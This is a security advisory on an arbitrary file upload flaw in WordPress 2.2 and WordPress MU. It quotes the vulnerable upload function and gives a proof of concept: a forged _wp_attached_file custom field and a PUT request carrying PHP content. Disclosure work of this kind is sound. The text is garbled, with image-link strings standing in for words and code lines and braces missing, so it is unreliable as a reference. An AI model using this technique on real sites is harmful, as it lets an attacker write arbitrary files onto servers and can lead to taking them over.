Arbitrary File Upload Vulnerability in WordPress and WordPress MU

Alexander Concha <alex at buayacorp dot com>
Affected versions
WordPress 2.2 and WordPress MU <= 1.2.2


WordPress is a state-of-the-art semantic personal publishing platform with a focus on aesthetics, web standards, and usability.

WordPress allows the upload of limited set of file attachments. The name, title and other values are stored on wp_posts table with post_type=attachment, the path and other file properties are stored in wp_postmeta table using special fields named _wp_attached_file and _wp_attachment_metadata.

On the other hand, WordPress also gives the ability to add custom fields in normal posts or pages (this fields are stored in wp_postmeta table too), but it does not check whether this special meta-data fields of attachments are added in normal posts.

On wp-app.php, there is the following function that allows file uploads:

function put_file($postID) {

  $type = $this->get_accepted_content_type();

  // first check if user can upload
    $this->auth_required(__('You do not have permission to upload files.'));

  // check for not found
  global $entry;

  // then whether user can edit the specific post
  if(!current_user_can('edit_post', $postID)) {
    $this->auth_required(__('Sorry, you do not have the right to edit this post.'));

  $location = get_post_meta($entry['ID'], '_wp_attached_file', true);

    $this->internal_error(__('Error ocurred while accessing postmetadata for file location.'));

  $fp = fopen("php://input", "rb");
  $localfp = fopen($location, "w+");
  while(!feof($fp)) {
    fwrite($localfp,fread($fp, 4096));


This function basically loads the path of the first attachment and writes the content that is posted to wp-app.php. So, if an attacker overrides the value of the first metadata attachment with a convenient filename, all the contents will be written to that file.This bug has been proved to be critical in WordPress MU based sites, since every registered user that have a blog account can upload files.

Proof of Concept

  1. Create or edit a post and add/override a custom field to it with the following value:

    key     : _wp_attached_file
    value   : /home/
  2. Send a PUT request to wp-app.php and pass the post_ID value from step 1
    PUT /wp/wp-app.php?action=/attachment/file/post_ID HTTP/1.1
    Cookie: auth cookies
    Content-Type: image/gif
    Content-Length: the content length
    <?php echo "Hello World"; ?>


Upgrade to latest version ofWordPress [MU]. This bug was fixed in changeset5765.

Disclosure Timeline